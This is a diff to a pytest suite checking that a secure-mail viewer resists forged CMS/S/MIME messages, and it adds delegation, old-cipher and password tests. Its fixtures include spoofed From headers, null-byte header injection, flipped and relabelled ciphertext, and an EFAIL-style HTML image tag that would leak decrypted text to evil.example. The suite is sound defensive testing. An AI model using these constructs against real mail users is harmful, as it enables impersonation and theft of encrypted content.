@@ -1,11 +1,17 @@
 """What a reader sees, by the judge: signature states, header forgeries, and the negative tests of security.md §6 (CMS)."""
 
+import hashlib
 from collections.abc import Callable
+from dataclasses import replace
+from datetime import timedelta
 from typing import Any
 
 import pytest
 from cryptography.hazmat.primitives.asymmetric import ec
 
+from bridge.cms.delegation import Delegation
+from bridge.cms.grants import GrantBody, Holder, HolderKind, Role
+from bridge.cms.log import NO_PREVIOUS, LogEntry, LogKind, build_entry
 from bridge.cms.messages import sign_message, sign_with_card
 from bridge.pki import certificates
 from tests.judge.practice import Mailbox, Practice, enveloped, signed
@@ -93,19 +99,21 @@ def test_view_lf_only_transport_keeps_the_signature(judge: Judge, practice: Prac
     assert seen["signature"]["state"] == "S1"
 
 
+@pytest.mark.negative(38)
 def test_view_outer_subject_altered_shows_the_protected_one(judge: Judge, practice: Practice, letter: bytes) -> None:
-    """Negative test 38."""
     seen = view(judge, practice, practice.outer(subject="Virement urgent") + letter)
     assert seen["subject"] == "Bilan"
     assert seen["signature"]["state"] == "S1"
 
 
+@pytest.mark.negative(32)
 def test_view_outer_from_altered_is_s3(judge: Judge, practice: Practice, letter: bytes) -> None:
-    """Negative test 32: a signed letter replayed under another From."""
+    """A signed letter replayed under another From."""
     seen = view(judge, practice, practice.outer("mallory@evil.example") + letter)
     assert (seen["signature"]["state"], seen["signature"]["reason"]) == ("S3", "outer-from-differs")
 
 
+@pytest.mark.negative(32)
 def test_view_card_content_replayed_by_another_mailbox_is_s3(judge: Judge, practice: Practice) -> None:
     """The card part is genuine; only the From inside it tells."""
     entity, mallory = practice.entity(), practice.mailbox("mallory@pli.example")
@@ -123,15 +131,15 @@ def test_view_card_content_replayed_by_another_mailbox_is_s3(judge: Judge, pract
         b"From: alice@pli.example\0",
     ],
 )
+@pytest.mark.negative(33)
 def test_view_hostile_from_is_never_proved(judge: Judge, practice: Practice, letter: bytes, hostile: bytes) -> None:
-    """Negative test 33."""
     outer = practice.outer().replace(b"From: alice@pli.example", hostile)
     seen = view(judge, practice, outer + letter)
     assert seen["signature"]["state"] in {"S3", "S5"}
 
 
+@pytest.mark.negative(34)
 def test_view_signed_message_attached_is_unsigned(judge: Judge, practice: Practice, letter: bytes) -> None:
-    """Negative test 34."""
     message = (
         practice.outer("mallory@evil.example")
         + b'Content-Type: multipart/mixed; boundary="=_m"\r\n\r\n--=_m\r\n\r\nregarde\r\n'
@@ -146,8 +154,8 @@ def test_view_signed_message_attached_is_unsigned(judge: Judge, practice: Practi
     assert seen["text"] == "regarde"
 
 
+@pytest.mark.negative(35)
 def test_view_encrypted_part_between_clear_ones_is_not_merged(judge: Judge, practice: Practice, letter: bytes) -> None:
-    """Negative test 35."""
     clear = b"--=_m\r\nContent-Type: text/html\r\n\r\n<img src='http://evil.example/?\r\n"
     secret = b"--=_m\r\n" + enveloped(practice.encrypt(letter, "-aes-256-cbc")) + b"\r\n"
     message = practice.outer() + b'Content-Type: multipart/mixed; boundary="=_m"\r\n\r\n' + clear + secret
@@ -157,14 +165,14 @@ def test_view_encrypted_part_between_clear_ones_is_not_merged(judge: Judge, prac
     assert seen["requests"] == []
 
 
+@pytest.mark.negative(36)
 def test_view_protected_to_names_another_is_told(judge: Judge, practice: Practice, letter: bytes) -> None:
-    """Negative test 36."""
     seen = view(judge, practice, wire(practice, letter), viewer="carol@pli.example")
     assert "not-addressed-to-you" in seen["notices"]
 
 
+@pytest.mark.negative(30)
 def test_view_unsigned_cbc_html_is_text_only(judge: Judge, practice: Practice) -> None:
-    """Negative test 30, one class of it."""
     seen = view(judge, practice, wire(practice, practice.entity(html=True)))
     assert seen["html"] is None
     assert (seen["text"], seen["signature"]["reason"]) == ("Bonjour", "sender-not-proved")
@@ -187,14 +195,16 @@ def test_view_for_somebody_else_is_one_generic_failure(judge: Judge, practice: P
 
 
 @pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
+@pytest.mark.negative(28)
 def test_view_flipped_ciphertext_shows_nothing(judge: Judge, practice: Practice, cipher: str) -> None:
-    """Negative test 28, and the same answer for CBC."""
+    """The same answer for GCM and CBC."""
     cms = bytearray(practice.encrypt(b"not mime " * 40, cipher))
     cms[-20] ^= 1
     seen = view(judge, practice, practice.outer() + enveloped(bytes(cms)))
     assert (seen["text"], seen["quarantined"]) == ("", "decrypt-failed")
 
 
+@pytest.mark.negative(25)
 def test_view_gcm_relabelled_cbc_is_refused(judge: Judge, practice: Practice, letter: bytes) -> None:
     cms = practice.encrypt(letter, "-aes-256-gcm")
     gcm, cbc = bytes.fromhex("060960864801650304012e"), bytes.fromhex("060960864801650304012a")
@@ -271,3 +281,88 @@ def test_view_p7m_as_only_attachment(judge: Judge, practice: Practice, letter: b
 def test_view_thirty_one_levels_is_quarantined(judge: Judge, practice: Practice) -> None:
     nest = b"".join(b'Content-Type: multipart/mixed; boundary="=_%d"\r\n\r\n--=_%d\r\n' % (i, i) for i in range(40))
     assert view(judge, practice, practice.outer() + nest + b"\r\nx")["quarantined"] == "limit-exceeded"
+
+
+@pytest.mark.parametrize("cipher", ["-des3", "-aes-256-cbc"])
+def test_view_old_cipher_waits_for_a_person(judge: Judge, practice: Practice, letter: bytes, cipher: str) -> None:
+    message = wire(practice, letter, cipher)
+    if cipher == "-des3":
+        assert view(judge, practice, message)["quarantined"] == "old-cipher"
+    seen = view(judge, practice, message, allow_old=True)
+    assert seen["text"].startswith("Bonjour,")
+    assert ("old-cipher" in seen["notices"]) is (cipher == "-des3")
+    assert seen["encryption"]["old"] is (cipher == "-des3")
+
+
+def test_view_under_a_password_asks_for_it(judge: Judge, practice: Practice, letter: bytes) -> None:
+    cms = practice.openssl(
+        "cms",
+        "-encrypt",
+        "-binary",
+        "-outform",
+        "DER",
+        "-aes-256-cbc",
+        "-pwri_password",
+        "mot de passe",
+        content=letter,
+    )
+    message = practice.outer() + enveloped(cms)
+    assert view(judge, practice, message)["quarantined"] == "password-needed"
+    assert view(judge, practice, message, password="mot de passe")["signature"]["state"] == "S1"
+
+
+def test_view_names_what_stands_behind_both_signatures(judge: Judge, practice: Practice, letter: bytes) -> None:
+    signature = view(judge, practice, practice.outer() + letter)["signature"]
+    assert (signature["details"]["algorithm"], signature["details"]["revocation"]) == ("ECDSA P-256", "good")
+    assert (signature["card"]["algorithm"], signature["card"]["revocation"]) == ("RSA 2048", "good")
+    assert signature["details"]["authority"] != signature["card"]["authority"]
+
+
+def test_view_card_of_another_than_the_directory_names_is_s3(judge: Judge, practice: Practice, letter: bytes) -> None:
+    rpps = practice.pki.cards["alice"].rpps_number
+    for named, state in ((rpps, "S1"), (practice.pki.cards["bob"].rpps_number, "S3")):
+        seen = view(judge, practice, practice.outer() + letter, directory={"alice@pli.example": named})
+        assert seen["signature"]["state"] == state
+
+
+def delegation(practice: Practice, **changes: Any) -> bytes:
+    """Bob's card lets Alice's write for alice@pli.example, as for a mailbox that is his."""
+    card, mailbox_id = practice.pki.cards["alice"], bytes(16)
+    before = practice.now - timedelta(days=2)
+    body = GrantBody(
+        grant_id=bytes(16), mailbox_id=mailbox_id, address="alice@pli.example", epoch=1,
+        encryption_spki=certificates.spki_sha256(practice.alice.encryption),
+        signature_spki=certificates.spki_sha256(practice.alice.signer.certificate),
+        encryption_certificate=certificates.certificate_sha256(practice.alice.encryption),
+        signature_certificate=certificates.certificate_sha256(practice.alice.signer.certificate),
+        holder=Holder(HolderKind.CARD, bytes(32), "RPPS", card.rpps_number, "Alice Martin"), role=Role.SENDER,
+        history_from_epoch=1, not_before=before, not_after=None, log_seq=0, prev_log_hash=NO_PREVIOUS,
+    )  # fmt: skip
+    body = replace(body, **changes)
+    entry = LogEntry(
+        mailbox_id=mailbox_id, address="alice@pli.example", seq=0, prev_hash=NO_PREVIOUS, time=before,
+        kind=LogKind.GENESIS, grants=(body.digest,), bindings=(hashlib.sha256(b"").digest(),),
+    )  # fmt: skip
+    return Delegation(build_entry(entry, practice.card("bob")), body.to_der()).to_der()
+
+
+@pytest.mark.parametrize(
+    ("changes", "state", "reason"),
+    [
+        ({}, "S2", "signed-for-mailbox"),
+        ({"role": Role.READER}, "S3", "delegation-refused"),
+        ({"address": "bob@pli.example"}, "S3", "delegation-refused"),
+    ],
+)
+def test_view_delegate_for_a_mailbox(
+    judge: Judge, practice: Practice, changes: dict[str, Any], state: str, reason: str
+) -> None:
+    entity = practice.entity()
+    signature = sign_message(
+        entity, practice.alice.signer, encryption_certificate=practice.alice.encryption, signing_time=practice.now,
+        card_signature=sign_with_card(entity, practice.alice_card, practice.now), delegation=delegation(practice, **changes),
+    )  # fmt: skip
+    owner = {"alice@pli.example": practice.pki.cards["bob"].rpps_number}
+    seen = view(judge, practice, practice.outer() + signed(entity, signature), directory=owner)
+    assert (seen["signature"]["state"], seen["signature"]["reason"]) == (state, reason)
+    assert seen["signature"]["signer"]["rppsNumber"] == practice.pki.cards["alice"].rpps_number
